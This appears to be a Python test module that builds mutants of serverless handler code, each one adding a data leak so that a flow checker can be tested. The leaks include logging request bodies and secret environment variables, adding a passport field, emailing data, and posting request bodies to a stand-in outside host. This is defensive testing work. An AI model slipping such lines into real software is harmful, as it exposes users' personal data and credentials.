"""Mutations of what code does with data: logs, puts, answers, requests, messages."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import NamedTuple

from tests.promise.mutants import Application, Mutant, Told
from tests.promise.statements import FUNCTION

PYTHON, SCRIPT = ".py", ".mjs"
HANDLER = {
    PYTHON: re.compile(r"^def handler\((?P<event>\w+), \w+\):\n", re.MULTILINE),
    SCRIPT: re.compile(r"^export const handler = async \((?P<event>\w+)\) => \{\n", re.MULTILINE),
}
# a name that takes what is in a body, a record or a table, as a statement of its own
TAKEN = {
    PYTHON: re.compile(
        r"^(?P<indent> +)(?P<name>\w+) = (?:json\.loads\(\w+\[\"body\"\]\)|\w+\.get_item\(.*\)\[\"Item\"\])\n",
        re.MULTILINE,
    ),
    SCRIPT: re.compile(
        r"^(?P<indent> +)const \{ Item: (?P<name>\w+) \} = await .*?;\n", re.MULTILINE | re.DOTALL
    ),
}
FIELD = {  # a member of an object that is put into a table, with the indent of its line
    PYTHON: re.compile(r'Item=\{\n(?P<indent> +)"\w+": (?P<name>\w+)\["\w+"\],\n', re.MULTILINE),
}


class Source(NamedTuple):
    """A function of the app, its code, and where what it logs goes."""

    file: str
    text: str
    function: str

    @property
    def suffix(self) -> str:
        return PYTHON if self.file.endswith(PYTHON) else SCRIPT

    def with_line(self, offset: int, indent: str, line: str) -> dict[str, str]:
        whole = "".join(f"{indent}{part}\n" for part in line.split("\n"))
        return {self.file: self.text[:offset] + whole + self.text[offset:]}


def logged(application: Application) -> Iterator[Mutant]:
    """All that a body or an item holds, in the log."""
    for source in _sources(application):
        for found in TAKEN[source.suffix].finditer(source.text):
            name = found["name"]
            call = f'print("seen", {name})' if source.suffix == PYTHON else f"console.log({name});"
            texts = source.with_line(found.end(), found["indent"], call)
            told = Told("flow", source.function, "-> @logs")
            place = f"{source.file}:{name}"
            yield application.mutant("a log of a body", place, texts, told)._replace(wider=True)


def logged_field(application: Application) -> Iterator[Mutant]:
    """One field that code already uses, in the log."""
    for source in _sources(application):
        field = re.compile(
            r'(?P<indent> +)(?P<line>.*?(?P<use>\b(?P<of>request|patient|parcel|ride|payment)\["(?P<key>\w+)"\]))'
        )
        if source.suffix == SCRIPT:
            continue
        for found in TAKEN[PYTHON].finditer(source.text):
            keys = {
                use["key"]
                for use in field.finditer(source.text, found.end())
                if use["of"] == found["name"]
            }
            for key in sorted(keys):
                call = f'print({found["name"]}["{key}"])'
                texts = source.with_line(found.end(), found["indent"], call)
                target = f"{key} -> @logs"
                told = Told("flow", source.function, target)
                yield application.mutant("a log of a field", f"{source.file}:{key}", texts, told)


def logged_event(application: Application) -> Iterator[Mutant]:
    """The whole event in the log."""
    for source in _sources(application):
        for found in HANDLER[source.suffix].finditer(source.text):
            event = found["event"]
            python = source.suffix == PYTHON
            call = f"print({event})" if python else f"console.log(JSON.stringify({event}));"
            if call.rstrip(";") in source.text or f"stringify({event})" in source.text:
                continue
            texts = source.with_line(found.end(), "    " if python else "  ", call)
            told = Told("flow", source.function, "event -> @logs")
            yield application.mutant("a log of the event", source.file, texts, told)


def another_field(application: Application) -> Iterator[Mutant]:
    """A field more in what is put into a table."""
    for source in _sources(application):
        pattern = FIELD.get(source.suffix)
        for found in pattern.finditer(source.text) if pattern else ():
            line = f'"passportNumber": {found["name"]}["passportNumber"],'
            texts = source.with_line(found.end(), found["indent"], line)
            told = (
                Told("flow", source.function, "passportNumber ", gains=("pii.passport",)),
                Told("coded", "", gains=("pii.passport",)),
            )
            place = f"{source.file}:{source.text[: found.start()].count(chr(10)) + 1}"
            yield application.mutant("a field in a put", place, texts, *told)


def whole_answer(application: Application) -> Iterator[Mutant]:
    """All of an item in an answer that had some of its fields."""
    for source in _sources(application):
        for found in re.finditer(r"JSON\.stringify\(\{ \w+: (\w+)\.\w+.*?\}\)", source.text):
            head, tail = source.text[: found.start()], source.text[found.end() :]
            texts = {source.file: f"{head}JSON.stringify({found[1]}){tail}"}
            told = Told("flow", source.function, "-> @response body")
            yield application.mutant("a whole item in an answer", source.file, texts, told)


def another_host(application: Application) -> Iterator[Mutant]:
    """A request that tells another host what a body holds."""
    host = "collector.elsewhere.example"
    for source in _sources(application):
        for found in TAKEN[source.suffix].finditer(source.text):
            name, url = found["name"], f"https://{host}/seen"
            line = f'import requests\nrequests.post("{url}", json={name}, timeout=5)'
            if source.suffix == SCRIPT:
                body = f"JSON.stringify({name})"
                line = f'await fetch("{url}", {{ method: "POST", body: {body} }});'
            texts = source.with_line(found.end(), found["indent"], line)
            told = (
                Told("flow", source.function, f"-> host:{host}"),
                Told("intended", f"host:{host}"),
            )
            yield application.mutant("another host", f"{source.file}:{name}", texts, *told)


def told_topic(application: Application) -> Iterator[Mutant]:
    """What a body holds published to a topic, for functions that have its ARN."""
    for source in _sources(application):
        topic = re.search(r'topic\.publish\(TopicArn=(os\.environ\["\w+"\])', source.text)
        for found in TAKEN[PYTHON].finditer(source.text) if topic else ():
            assert topic is not None
            line = f"topic.publish(TopicArn={topic[1]}, Message=json.dumps({found['name']}))"
            texts = source.with_line(found.end(), found["indent"], line)
            told = Told("flow", source.function, "-> template/Calls")
            yield application.mutant("a body to a topic", source.file, texts, told)


def mailed(application: Application) -> Iterator[Mutant]:
    """What a body holds sent by e-mail."""
    for source in _sources(application):
        for found in TAKEN[source.suffix].finditer(source.text):
            if source.suffix == SCRIPT:
                continue
            line = (
                "import boto3\nimport json\n"
                'boto3.client("ses").send_email(Source="us@our.example",'
                ' Destination={"ToAddresses": ["them@their.example"]},'
                ' Message={"Subject": {"Data": "seen"},'
                f' "Body": {{"Text": {{"Data": json.dumps({found["name"]})}}}}}})'
            )
            texts = source.with_line(found.end(), found["indent"], line)
            told = (
                Told("flow", source.function, "@recipients"),
                Told("call", source.function, "", gains=("ses:SendEmail",)),
            )
            yield application.mutant("an e-mail", f"{source.file}:{found['name']}", texts, *told)


def logged_variable(application: Application) -> Iterator[Mutant]:
    """A variable of the environment in the log."""
    for source in _sources(application):
        for name in sorted(
            set(re.findall(r'os\.environ\["(\w*(?:KEY|SECRET)\w*)"\]', source.text))
        ):
            found = HANDLER[PYTHON].search(source.text)
            assert found
            texts = source.with_line(found.end(), "    ", f'print(os.environ["{name}"])')
            told = Told("flow", source.function, f"env.{name} -> @logs")
            yield application.mutant("a variable logged", f"{source.file}:{name}", texts, told)


def read_and_returned(application: Application) -> Iterator[Mutant]:
    """An item of a table that a function has read, in its answer."""
    for source in _sources(application):
        if source.suffix == SCRIPT or "get_item" in source.text or "Table(" not in source.text:
            continue
        table = re.search(r"^(\w+) = \S+\.Table\(", source.text, re.MULTILINE)
        answer = re.search(r"^( +)return \{.*?\}\n", source.text, re.MULTILINE)
        if table and answer:
            line = (
                f'kept = {table[1]}.get_item(Key={{"patient": "x"}})["Item"]\n'
                'return {"statusCode": 200, "body": json.dumps(kept)}'
            )
            texts = source.with_line(answer.start(), answer[1], line)
            told = (
                Told("flow", source.function, "-> @response body"),
                Told("call", source.function, "", gains=("dynamodb:GetItem",)),
            )
            yield application.mutant("a table read and returned", source.file, texts, *told)


def another_table(application: Application) -> Iterator[Mutant]:
    """What goes into one table goes into the function's other one."""
    for source in _sources(application):
        tables = re.findall(r"^(\w+) = tables\.Table\(os\.environ", source.text, re.MULTILINE)
        for one in tables:
            for other in tables:
                if one == other:
                    continue
                changed = source.text.replace(f"{one}.put_item", f"{other}.put_item", 1)
                told = Told("flow", source.function, f"-> {_stem(source)}/{other.title()}")
                place = f"{source.file}:{other} for {one}"
                texts = {source.file: changed}
                yield application.mutant("another table", place, texts, told)


def failing_aloud(application: Application) -> Iterator[Mutant]:
    """A failure that tells the log what was asked for."""
    for source in _sources(application):
        for found in TAKEN[source.suffix].finditer(source.text):
            if source.suffix == SCRIPT or 'json.loads(event["body"])' not in found[0]:
                continue
            name = found["name"]
            line = f"if len({name}) > 999:\n    print('cannot take', {name})"
            texts = source.with_line(found.end(), found["indent"], line)
            told = Told("flow", source.function, "-> @logs")
            yield application.mutant("an error with data", source.file, texts, told)


def unfiltered(application: Application) -> Iterator[Mutant]:
    """All of a record where some fields were chosen."""
    for source in _sources(application):
        for found in re.finditer(r"^( +)kept = \{.*\}\n", source.text, re.MULTILINE):
            head, tail = source.text[: found.start()], source.text[found.end() :]
            texts = {source.file: f'{head}{found[1]}kept = {{**image, "parcelId": "x"}}\n{tail}'}
            told = Told("flow", source.function, "-> parcels/Archive")
            yield application.mutant("all fields", source.file, texts, told)


KINDS = (
    logged,
    logged_field,
    logged_event,
    another_field,
    whole_answer,
    another_host,
    told_topic,
    mailed,
    logged_variable,
    read_and_returned,
    another_table,
    failing_aloud,
    unfiltered,
)


def _sources(application: Application) -> Iterator[Source]:
    for found in application.resources(FUNCTION, "AWS::Lambda::Function"):
        folder = found.properties.get("CodeUri") or found.properties.get("Code")
        for file, text in application.code.items():
            if isinstance(folder, str) and file.startswith(f"{folder}/"):
                yield Source(file, text, found.id)


def _stem(source: Source) -> str:
    return source.function.rpartition("/")[0]
